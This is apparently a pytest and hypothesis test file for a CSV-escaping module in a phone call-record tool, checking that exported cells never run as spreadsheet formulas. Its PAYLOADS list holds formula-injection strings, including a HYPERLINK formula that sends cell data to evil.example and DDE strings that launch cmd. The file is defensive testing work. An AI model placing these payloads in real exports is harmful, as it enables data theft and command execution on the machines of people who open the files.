"""`smdrd.csvsafe`: no cell of smdrd's CSV is a formula to a spreadsheet, and plain numbers stay numbers.

The "spreadsheet" here is `evaluated`: a parsed cell it would run as a formula (OWASP's triggers, after leading
blanks, ASCII and full-width). It reads the CSV as written (``,``) and as a ``;``-locale spreadsheet does.
"""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from smdrd.csvsafe import SafeCsvWriter, csv_text, is_plain_number, safe_cell

ROOT = Path(__file__).resolve().parent.parent

#: The payloads of issue 11 finding 3, and their relatives.
PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "\u200b=1+2",
    "\uff1d1+2",
    "\uff0bcmd|' /C calc'!A0",
    "\uff0d1+2",
    "\uff20SUM(A1)",
    "\u22121+2",
]

TRIGGERS = set("=+-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212")
BLANKS = "\u200b\u200c\u200d\u2060\ufeff"
NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def evaluated(cell: str, controls: bool = True) -> bool:
    """Whether a spreadsheet would evaluate this parsed cell (a plain number is a number, not a formula).

    A trigger counts after leading blanks; with ``controls``, so does a leading tab, CR or LF on its own, as
    OWASP asks of the cells we write (a cell made only of blanks is harmless, so the ``;`` reading omits it).
    """
    if NUMBER.fullmatch(cell):
        return False
    rest = cell
    while rest and (rest[0] in BLANKS or rest[0].isspace()):
        rest = rest[1:]
    return (controls and cell[:1] in ("\t", "\r", "\n")) or rest[:1] in TRIGGERS


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]


def evaluated_in(text: str, delimiter: str) -> list[str]:
    """The cells of ``text`` a spreadsheet splitting on ``delimiter`` would evaluate.

    Read on ``;``, a line whose first cell is a plain number such as ``-1`` starts with ``-1,``: that is one of
    our plain-number cells, followed by cells that are each safe, not text from a PBX starting a cell of its
    own (text after a ``;`` or a line break inside a cell is guarded even when it is a number).
    """
    bad = [c for c in cells(text, delimiter) if evaluated(c, controls=delimiter == ",")]
    ours = re.compile(r"\s*[+-]?[0-9]+(\.[0-9]+)?(?=,|\r|\n|\Z)")
    return [c for c in bad if delimiter == "," or not ours.match(c)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_gets_a_leading_quote_and_nothing_else_changes(payload: str) -> None:
    assert evaluated(payload)
    assert safe_cell(payload) == "'" + payload.replace("\t=", "\t'=").replace("\r=", "\r'=")
    for delimiter in ",;":
        assert not evaluated_in(csv_text([["x", payload, "y"]]), delimiter)


@pytest.mark.parametrize("number", ["+442071234567", "-12.50", "0044207123", "-3", "+1", "12", "3.0"])
def test_plain_numbers_stay_exactly_as_they_are(number: str) -> None:
    assert is_plain_number(number)
    assert safe_cell(number) == number
    assert cells(csv_text([[number]])) == [number]


@pytest.mark.parametrize(("text", "expected"), [
    ("+44 20 7123 4567", "'+44 20 7123 4567"),   # a spreadsheet reads spaces as its intersection operator
    ("+1 (555) 123-4567", "'+1 (555) 123-4567"),
    ("-", "'-"),
    ("+.5", "'+.5"),
    ("-1e5", "'-1e5"),
    ("\uff0b\uff14\uff14", "'\uff0b\uff14\uff14"),            # full-width digits are not a plain number
    ("-inf", "'-inf"),
    ("a;=1+2", "a;'=1+2"),                         # a ';' locale would start a cell after the ';'
    ('a; "@SUM(A1)', "a;' \"@SUM(A1)"),
    ("line\n-1+2", "line\n'-1+2"),
    ("sip:+442071234567;user=phone", "sip:+442071234567;user=phone"),
    ("Reception", "Reception"),
    ("'=1+2", "'=1+2"),
    ("", ""),
])
def test_the_documented_edges(text: str, expected: str) -> None:
    assert safe_cell(text) == expected


def test_numbers_and_none_are_written_as_they_are() -> None:
    assert [safe_cell(v) for v in (None, 0, -5, 442071234567, Decimal("-12.50"), Decimal("0.001234"), 1.5, True)] \
        == ["", "0", "-5", "442071234567", "-12.50", "0.001234", "1.5", "True"]
    assert safe_cell(Decimal("-Infinity")) == "'-Infinity"
    assert safe_cell(float("-inf")) == "'-inf"


def test_the_writer_writes_rfc4180_with_crlf() -> None:
    out = io.StringIO()
    writer = SafeCsvWriter(out)
    writer.writerow(["extension", "number", "cost"])
    writer.writerows([["201", "=1+2", Decimal("0.06")], ["a,b", 'say "hi"', None]])
    assert out.getvalue() == "extension,number,cost\r\n201,'=1+2,0.06\r\n\"a,b\",\"say \"\"hi\"\"\",\r\n"


_TEXT = st.text(alphabet=st.one_of(
    st.sampled_from(sorted(TRIGGERS) + list(" \t\r\n\"',;|!()" + BLANKS + "\u00a0\u3000") + ["0", "1", "."]),
    st.characters()), max_size=24)


@settings(max_examples=1500, deadline=None)
@given(st.lists(st.lists(st.one_of(_TEXT, st.integers(), st.none()), min_size=1, max_size=5), min_size=1, max_size=4))
def test_no_cell_of_any_input_is_evaluated_by_a_spreadsheet(rows: list[list[str | int | None]]) -> None:
    text = csv_text(rows)
    for delimiter in ",;":
        assert not evaluated_in(text, delimiter), (rows, delimiter, text)
    # read as written, the file holds exactly the safe cells, row for row: nothing is lost or merged
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert parsed == [[safe_cell(v) for v in row] for row in rows]


@settings(max_examples=500, deadline=None)
@given(_TEXT)
def test_neutralising_only_adds_quotes(text: str) -> None:
    safe = safe_cell(text)
    assert safe.replace("'", "") == text.replace("'", "")
    if not evaluated(text) and not any(c in text for c in ";\t\r\n"):
        assert safe == text


@settings(max_examples=300, deadline=None)
@given(st.from_regex(NUMBER, fullmatch=True))
def test_every_plain_number_is_left_alone(number: str) -> None:
    assert safe_cell(number) == number


def test_every_csv_writer_goes_through_csvsafe() -> None:
    """A new CSV writer cannot forget: ``csv.writer``/``DictWriter`` appear only in smdrd/csvsafe.py.

    ``parsers/custom.py`` and ``parsers/toolkit.py`` (``Layout.render``) are the exceptions: they render a PBX's
    own line format for the simulator, which must parse back byte for byte, and nothing a person opens in a
    spreadsheet.
    """
    allowed = {ROOT / "smdrd" / "csvsafe.py", ROOT / "parsers" / "custom.py", ROOT / "parsers" / "toolkit.py"}
    found = [str(path.relative_to(ROOT)) for folder in ("smdrd", "parsers") for path in (ROOT / folder).rglob("*.py")
             if path not in allowed and re.search(r"\bcsv\.(writer|DictWriter)\b|\bDictWriter\(",
                                                  path.read_text(encoding="utf-8"))]
    assert not found, f"write CSV through smdrd.csvsafe.SafeCsvWriter, not csv.writer, in {found}"
